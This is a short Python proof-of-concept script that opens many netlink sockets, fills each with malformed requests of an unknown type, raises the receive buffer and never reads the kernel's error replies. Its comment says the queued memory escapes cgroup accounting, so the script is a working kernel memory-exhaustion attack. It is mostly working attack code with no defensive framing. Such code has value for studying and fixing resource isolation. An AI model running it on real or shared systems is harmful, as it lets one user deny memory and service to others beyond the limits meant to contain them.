# Collects responses of the kernel in netlink sockets that are not read. No cgroup accounts for the memory of these
# responses.
import socket
import struct
import sys
import time

# Requests of an unknown type: the kernel answers each of them with an error that contains the request.
REQUEST = struct.pack("IHHII", 16, 0x7FF, 5, 1, 0) * 64
kept = []
for _ in range(int(sys.argv[1])):
    one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    one.bind((0, 0))
    one.setblocking(False)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    try:
        for _ in range(1000):
            one.send(REQUEST)
    except OSError:
        pass
    kept.append(one)
print("taken", len(kept), flush=True)
time.sleep(100000)
